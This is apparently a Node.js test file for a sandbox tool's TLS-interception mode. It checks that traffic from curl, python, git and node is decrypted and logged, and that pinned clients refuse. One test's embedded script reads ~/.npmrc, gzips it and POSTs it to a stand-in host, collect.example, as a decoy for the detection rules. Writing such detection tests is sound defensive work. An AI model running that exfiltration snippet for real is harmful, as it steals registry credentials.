// SPDX-License-Identifier: Apache-2.0
// --tls intercept: what programs in the sandbox send under TLS is read and judged, and those that
// trust somebody else refuse.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { build, qp, receiptOf, temporaryFolder } from './lib/qp.mjs';

const root = process.getuid() === 0;

// A folder with this script, run by node in the sandbox.
function execNode(t, options, script) {
  const folder = temporaryFolder(t);
  fs.writeFileSync(path.join(folder, 'main.mjs'), script);
  return receiptOf(t, ['exec', ...options, '--in', folder, '--', 'node', 'main.mjs']);
}

const store = '/etc/ssl/certs/ca-certificates.crt';
const printed = (run) => run.receipt.logs.sandboxOutput.split('\n');
const fired = (run) => run.receipt.rulesFired.map((rule) => rule.id);
const sent = (run, protocol) => run.receipt.network.sinkholeLog.filter((r) =>
  r.type === 'tcp' && r.protocol === protocol);

describe('qp --tls', { skip: root ? false : 'needs root' }, () => {
  test('reads a decoy that node posts by https, packed with gzip', (t) => {
    const run = execNode(t, ['--tls', 'intercept'], `
      import https from 'node:https';
      import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
      import os from 'node:os';
      import zlib from 'node:zlib';
      const body = zlib.gzipSync(fs.readFileSync(os.homedir() + '/.npmrc'));
      const request = https.request({ host: 'collect.example', path: '/in', method: 'POST',
        headers: { 'content-length': body.length } }, (response) => {
          console.log('status', response.statusCode, response.socket.authorized);
          response.resume();
        });
      request.end(body);`);
    assert.ok(printed(run).includes('status 403 true'), run.receipt.logs.sandboxOutput);
    const { tls } = run.receipt.network;
    assert.equal(tls.mode, 'intercept');
    assert.deepEqual(tls.untrustedBy, []);
    assert.deepEqual(tls.trustedBy.map((file) => path.basename(file)),
      ['ca-certificates.crt', 'node']);
    assert.match(tls.authority.sha256, /^[0-9a-f]{64}$/);
    const [http] = sent(run, 'http');
    assert.deepEqual([http.method, http.host, http.path, http.inTls.sni],
      ['POST', 'collect.example', '/in', 'collect.example']);
    assert.ok(http.decoyEncodings.some((how) => how.includes('compressed')));
    assert.equal(sent(run, 'tls')[0].handshake, 'accepted');
    assert.ok(fired(run).includes('c2') && fired(run).includes('d'), String(fired(run)));
    assert.equal(run.code, 20);
    assert.ok(run.receipt.knownLimitations.every((text) => !/TLS bodies are not/.test(text)));
    assert.match(run.stdout, /TLS +intercepted: 1 read, 0 refused/);
    // The log says it all again.
    assert.equal(qp(['replay', run.log]).stdout, run.bytes);
  });

  test('is not to be seen in the environment, and makes no other program different', (t) => {
    const run = execNode(t, ['--tls', 'intercept'], `
      import tls from 'node:tls';
      console.log('env', Object.keys(process.env).sort().join());
      console.log('args', process.execArgv.length);
      console.log('roots', new Set(tls.rootCertificates).size === tls.rootCertificates.length);`);
    assert.ok(printed(run).includes('env HOME,LANG,LOGNAME,PATH,SHELL,TERM,USER'),
      run.receipt.logs.sandboxOutput);
    assert.ok(printed(run).includes('args 0'));
    assert.ok(printed(run).includes('roots true'));
    assert.equal(run.code, 0, JSON.stringify(run.receipt.rulesFired));
  });

  test('is refused by a node that pins another authority, and by one that trusts nobody', (t) => {
    const run = execNode(t, ['--tls', 'intercept'], `
      import https from 'node:https';
      import tls from 'node:tls';
      const ask = (host, ca) => new Promise((done) => https.get({ host, ca }, done)
        .on('error', (error) => done(console.log(host, error.code))));
      await ask('pinned.example', tls.rootCertificates[0]);
      await ask('nobody.example', []);`);
    assert.ok(printed(run).some((line) => /^pinned\.example (UNABLE|SELF)/.test(line)),
      run.receipt.logs.sandboxOutput);
    const records = sent(run, 'tls');
    assert.deepEqual(records.map((r) => [r.sni, r.handshake]),
      [['pinned.example', 'refused'], ['nobody.example', 'refused']]);
    records.forEach((r) => assert.match(r.ja4, /^t13d/));
    assert.equal(sent(run, 'http').length, 0);
    assert.deepEqual(fired(run), ['f']);
    assert.match(qp(['show', run.file]).stdout, /TLS +intercepted: 0 read, 2 refused/);
  });

  test('is trusted by curl over HTTP/1.1 and HTTP/2, python and git', (t) => {
    const run = receiptOf(t, ['exec', '--tls', 'intercept', '--', 'sh', '-c', `
      for v in 1.1 2; do
        curl -s -o /dev/null -w "curl %{http_version} %{http_code}\\n" --http$v -d a=b \\
          https://curl$v.example/
      done
      curl -s --cacert /dev/null https://refused.example/ || echo curl refused
      /usr/bin/python3 -c 'import urllib.request as u; u.urlopen("https://py.example/p")'
      git ls-remote https://git.example/g`]);
    const lines = printed(run);
    for (const line of ['curl 1.1 403', 'curl 2 403', 'curl refused']) {
      assert.ok(lines.includes(line), run.receipt.logs.sandboxOutput);
    }
    const seen = new Map(sent(run, 'http').filter((r) => r.method).map((r) => [r.host, r]));
    assert.deepEqual([...seen.keys()].sort(),
      ['curl1.1.example', 'curl2.example', 'git.example', 'py.example']);
    assert.equal(seen.get('curl2.example').httpVersion, '2');
    assert.equal(seen.get('curl2.example').payloadBytes, 3);
    assert.equal(seen.get('curl1.1.example').payloadBytes, 3);
    assert.equal(sent(run, 'tls').find((r) => r.sni === 'refused.example').handshake, 'refused');
  });

  test('is trusted in an image too, which is not written to', (t) => {
    const image = path.join(temporaryFolder(t), 'image');
    const bundle = path.join(image, store);
    fs.mkdirSync(path.dirname(bundle), { recursive: true });
    fs.copyFileSync(store, bundle);
    // A node with what it is linked with, where the image's own PATH has it.
    const linked = execFileSync('ldd', [process.execPath], { encoding: 'utf8' });
    const files = linked.match(/\/\S+/g).map((file) => [file, file]);
    for (const [from, to] of [...files, [process.execPath, '/usr/local/bin/node']]) {
      fs.mkdirSync(path.join(image, path.dirname(to)), { recursive: true });
      fs.copyFileSync(from, path.join(image, to));
    }
    const run = receiptOf(t, ['exec', '--tls', 'intercept', '--rootfs', image, '--',
      'node', '-e', `require('node:https').get('https://i.example/x', (r) => r.resume());`]);
    assert.deepEqual(run.receipt.network.tls.trustedBy, [store, '/usr/local/bin/node']);
    assert.equal(sent(run, 'http')[0]?.host, 'i.example', run.receipt.logs.sandboxOutput);
    assert.deepEqual(fs.readFileSync(bundle), fs.readFileSync(store));

    // A node of which nothing can be replaced.
    fs.writeFileSync(path.join(image, 'usr/local/bin/node'), '#!/bin/sh\n', { mode: 0o755 });
    fs.copyFileSync(path.join(build, 'probes/calls'), path.join(image, 'usr/local/bin/calls'));
    const other = receiptOf(t, ['exec', '--tls', 'intercept', '--rootfs', image, '--', 'calls',
      'getppid', '1']);
    assert.deepEqual(other.receipt.network.tls.untrustedBy, ['/usr/local/bin/node']);
    assert.match(other.stdout, /not trusted by \/usr\/local\/bin\/node/);
  });

  test('refuses unless it is told otherwise, and says so', (t) => {
    const run = execNode(t, [], `
      import https from 'node:https';
      https.get('https://x.example/').on('error', (error) => console.log(error.code));`);
    assert.deepEqual(run.receipt.network.tls, { mode: 'refuse' });
    const [record] = sent(run, 'tls');
    assert.equal(record.sni, 'x.example');
    assert.equal(record.handshake, undefined);
    assert.ok(run.receipt.knownLimitations.some((text) => /TLS bodies are not/.test(text)));
    assert.ok(!run.stdout.includes('intercepted'));
  });

  test('says what it takes', () => {
    const wrong = qp(['exec', '--tls', 'open', '--', 'true']);
    assert.equal(wrong.code, 2);
    assert.match(wrong.stderr, /--tls.*refuse.*intercept/);
  });
});
